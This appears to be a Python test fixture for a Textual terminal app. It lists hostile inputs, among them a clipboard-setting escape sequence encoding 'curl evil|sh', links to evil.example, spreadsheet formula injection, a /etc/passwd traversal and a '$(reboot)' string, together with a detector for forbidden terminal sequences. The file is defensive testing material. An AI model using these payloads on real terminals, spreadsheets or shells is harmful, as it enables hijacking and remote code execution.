"""Text that means harm, by name: what a terminal, a markup parser, a reader or a spreadsheet could act on."""

import re

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

TEXTS: dict[str, str] = {
    "osc 52 sets the clipboard": f"{ESC}]52;c;Y3VybCBldmlsfHNo{BEL}",
    "osc 52 with st": f"{ESC}]52;c;Y3VybCBldmlsfHNo{ST}",
    "osc 0 sets the title": f"{ESC}]0;owned{BEL}",
    "osc 2 sets the title": f"{ESC}]2;owned{ST}",
    "osc 8 makes a link": f"{ESC}]8;;http://evil.example{ST}click{ESC}]8;;{ST}",
    "dcs": f"{ESC}P$qm{ST}",
    "dcs sixel": f"{ESC}Pq#0;2;0;0;0~~{ST}",
    "csi clears": f"{ESC}[2J{ESC}[H",
    "csi asks back": f"{ESC}[6n{ESC}[c",
    "csi sets modes": f"{ESC}[?1049l{ESC}[?25h",
    "reset": f"{ESC}c",
    "apc": f"{ESC}_Gi=1;AAAA{ST}",
    "c1 csi as code point": "\x9b31mred\x9b0m",
    "c1 osc as code point": "\x9d52;c;Y3VybA==\x9c",
    "c1 dcs as code point": "\x90q~~\x9c",
    "c1 as byte": "\udc9b31mred",
    "markup click": "[@click=app.bell]x[/]",
    "markup click with space": "[ @click=app.bell]x[/]",
    "markup click after colour": "[$primary @click=app.bell]x[/]",
    "markup quit": "[@click=app.quit]press[/]",
    "markup unbalanced": "[/x][bold",
    "markup nested": "[[bold][/[@click=app.bell]]]",
    "markup link": "[link=http://evil.example]x[/link]",
    "bidi override": "\u202etxt.exe\u202c",
    "bidi isolate": "\u2066abc\u2069\u200f",
    "zero width": "a\u200bb\u200c\u200d\ufeffc",
    "lone surrogate": "\ud800 \udfff",
    "invalid utf-8": "\udcff\udcfe\udc80",
    "nul": "a\x00b",
    "tabs": "a\tb\t\tc",
    "carriage returns": "10 %\r20 %\r30 %",
    "newlines": "first\nsecond\r\nthird",
    "vertical": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "backspaces": "secret\x08\x08\x08\x08\x08\x08public",
    "delete": "a\x7fb",
    "wide": "漢字かな한글",
    "combining": "e" + "\u0301" * 60,
    "emoji sequence": "👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈",
    "language tags": "x\U000e0041\U000e007f",
    "formula": "=cmd|'/c calc'!A1",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "glob": "*[a-z]?\\",
    "path": "../../etc/passwd",
    "percent": "%s %n {0} {job} %(x)s",
    "quotes": "'\"`$(reboot)`;reboot",
    "long": "x" * 20_000,
}

NUMBERS = (
    "NaN",
    "nan",
    "inf",
    "-inf",
    "1e400",
    "-1",
    "0x10",
    "1_000",
    "١٢",
    "",
    " ",
    "9" * 400,
    "60000000000000",
)

# What no terminal may receive because of data: the introducers of everything that acts.
FORBIDDEN = (
    "\x1b]52",
    "\x1b]0;",
    "\x1b]2;",
    "\x1b]8;",
    "\x1bP",
    "\x1b_",
    "\x1bc",
    "\x1b[2J",
    "\x1b[6n",
    "\x1b[c",
)

# What may begin with ESC: moves, colours and modes that Textual sends, its mouse pointer's shape, nothing else.
_ALLOWED = re.compile(rb"\x1b(\[[0-9;?<>=]*[ -/]*[A-Za-ln-z@m]|\]22;[a-z]*\x07|P\+q|[=>78])")
# What was read may end in the middle of one.
_UNFINISHED = re.compile(rb"\x1b(\[[0-9;?<>=]*)?$")
_C1 = re.compile("[\x80-\x9f]")


def harmless(data: bytes) -> list[bytes]:
    """What of the bytes that a terminal got could act and is not Textual's own."""
    left = _UNFINISHED.sub(b"", _ALLOWED.sub(b"", data))
    found = [each.encode() for each in FORBIDDEN if each.encode() in data]
    found += [left[max(0, place.start() - 20) : place.start() + 20] for place in re.finditer(b"\x1b", left)]
    found += [b"C1" for _ in _C1.finditer(data.decode("utf-8", "replace"))]
    return found
